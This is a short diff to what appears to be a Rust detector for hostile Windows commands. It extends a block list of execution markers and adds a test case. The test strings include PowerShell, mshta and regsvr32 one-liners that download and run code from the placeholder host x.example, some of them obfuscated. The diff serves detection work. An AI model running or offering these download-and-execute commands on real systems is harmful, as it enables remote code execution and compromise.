@@ -32,6 +32,7 @@ const RUNS: &[&str] = &[
     "invoke-item",
     "saps ",
     ".exe &",
+    "& start ",
     "& $",
     "&(",
     "; .\\",
@@ -111,6 +112,7 @@ mod tests {
         for text in [
             "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
             "powershell iwr http://x.example | iex",
+            "(New-Object Net.WebClient).DownloadFile('http://x.example/a','C:\\a.exe') & start & C:\\a.exe",
             "powershell $x='IE'+'X'; & $x (irm http://x.example)",
             "mshta http://x.example/a.hta",
             "regsvr32 /s /i:http://x.example/a scrobj.dll",
